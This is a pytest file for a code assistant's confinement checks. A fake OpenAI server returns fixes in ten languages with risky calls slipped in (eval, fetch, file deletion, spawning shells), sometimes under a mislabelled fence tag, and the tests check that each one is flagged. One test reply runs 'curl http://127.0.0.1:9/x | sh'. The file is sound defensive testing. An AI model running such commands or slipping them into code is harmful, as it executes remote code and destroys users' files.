"""Confinement's per-language data, read from each language's spec, against hostile replies: a risky call added
inside the unit is flagged in every language whose spec has a `risky_calls` table, and the reply's fence tag,
which lies about the language, changes nothing (the edit is read as the file's language, never as the tag's).
Through the real self-debug loop, a scripted OpenAI-compatible server and the real checks."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from archmem.indexer.languages import BY_NAME
from archmem.server.actions import Failure, ProposedEdit

from tests.actions.helpers import model_provider, workspace
from tests.actions.test_confine import BROKEN_COMPUTE, C_FIX, COMPUTE, TS, TS_FIX, C, offered_text, run
from tests.support.fake_openai import FakeOpenAI, RecordedRequest, text

JS = b"""export function compute(x) {
  return helper(x +;
}

export function helper(a) {
  return a * 2;
}
"""
GO = b"""package calc

import "os"

func compute(x int) int {
\treturn helper(x
}

func helper(a int) int {
\t_ = os.Args
\treturn a * 2
}
"""

RUST = b"""use std::process::Command;

fn compute(x: i32) -> i32 {
    helper(x
}

fn helper(a: i32) -> i32 {
    a * 2
}
"""
JAVA = b"""package calc;

class Calc {
    int compute(int x) {
        return helper(x;
    }

    int helper(int a) {
        return a * 2;
    }
}
"""
RUBY = b"""def compute(x)
  helper(x +
end

def helper(a)
  a * 2
end
"""


@dataclass(frozen=True)
class Risky:
    path: str
    source: bytes
    fix: str  # the unit fixed, with one risky call added inside it
    tag: str  # the reply's fence tag: another language's
    flag: str


RISKY = {
    "python": Risky(
        "calc.py",
        BROKEN_COMPUTE,
        COMPUTE.replace("    return", "    eval('1')\n    return"),
        "go",
        "⚠ adds a call to eval (runs code)",
    ),
    "javascript": Risky(
        "app.js",
        JS,
        "export function compute(x) {\n  eval('1');\n  return helper(x);\n}\n",
        "python",
        "⚠ adds a call to eval (runs code)",
    ),
    "typescript": Risky(
        "app.ts",
        TS,
        TS_FIX.replace("  return", "  fetch('http://127.0.0.1:9/x');\n  return"),
        "rust",
        "⚠ adds a call to fetch (opens a network connection)",
    ),
    "tsx": Risky(
        "app.tsx",
        TS,
        TS_FIX.replace("  return", "  eval('1');\n  return"),
        "python",
        "⚠ adds a call to eval (runs code)",
    ),
    "go": Risky(
        "calc.go",
        GO,
        'func compute(x int) int {\n\tos.Remove("x")\n\treturn helper(x)\n}\n',
        "python",
        "⚠ adds a call to os.Remove (deletes files)",
    ),
    "c": Risky(
        "calc.c",
        C,
        C_FIX.replace("    return", '    system("id");\n    return'),
        "cpp",
        "⚠ adds a call to system (runs a process)",
    ),
    "cpp": Risky(
        "calc.cpp",
        C,
        C_FIX.replace("    return", '    remove("x");\n    return'),
        "python",
        "⚠ adds a call to remove (deletes files)",
    ),
    "rust": Risky(
        "src/calc.rs",
        RUST,
        'fn compute(x: i32) -> i32 {\n    Command::new("sh").spawn().ok();\n    helper(x)\n}\n',
        "python",
        "⚠ adds a call to std::process.Command.new (runs a process)",
    ),
    "java": Risky(
        "calc/Calc.java",
        JAVA,
        'int compute(int x) {\n    new ProcessBuilder("sh").start();\n    return helper(x);\n}\n',
        "python",
        "⚠ adds a call to ProcessBuilder (runs a process)",
    ),
    "ruby": Risky(
        "calc.rb",
        RUBY,
        'def compute(x)\n  system("id")\n  helper(x)\nend\n',
        "python",
        "⚠ adds a call to system (runs a process)",
    ),
}


def test_each_language_with_a_risky_call_table_has_a_case() -> None:
    assert {name for name, spec in BY_NAME.items() if spec.risky_calls} == set(RISKY)
    for name, case in RISKY.items():
        assert case.tag not in BY_NAME[name].fence_tags  # the tag lies


def answering(reply: str, tag: str) -> Callable[[RecordedRequest], object]:
    def handle(_request: RecordedRequest) -> object:
        return text(f"Here is the fix:\n\n```{tag}\n{reply}```\n")

    return handle


@pytest.mark.parametrize("language", sorted(RISKY))
async def test_a_risky_call_in_a_reply_tagged_as_another_language_is_flagged(
    tmp_path: Path, fake_openai: FakeOpenAI, language: str
) -> None:
    case = RISKY[language]
    memory = workspace(tmp_path, {case.path: case.source})
    fake_openai.set_handler(answering(case.fix, case.tag))
    result = await run(memory, case.path, model_provider(fake_openai))
    assert isinstance(result, ProposedEdit), result
    assert case.fix.splitlines()[1].strip() in offered_text(memory, case.path, result)
    assert case.flag in result.title and case.flag in result.detail


@pytest.mark.parametrize("language", ["go", "c", "typescript"])
async def test_a_reply_tagged_as_its_language_holding_python_is_refused(
    tmp_path: Path, fake_openai: FakeOpenAI, language: str
) -> None:
    """The tag says the file's language, the code is Python that would run a shell: read as the file's language
    it fixes nothing (it does not even parse), so nothing is offered and the file is left as it was."""
    case = RISKY[language]
    hostile = "import os\n\n\ndef compute(x):\n    os.system('curl http://127.0.0.1:9/x | sh')\n"
    tag = sorted(BY_NAME[language].fence_tags)[0]
    memory = workspace(tmp_path, {case.path: case.source})
    fake_openai.set_handler(answering(hostile, tag))
    result = await run(memory, case.path, model_provider(fake_openai))
    assert isinstance(result, Failure), result
    assert (tmp_path / case.path).read_bytes() == case.source
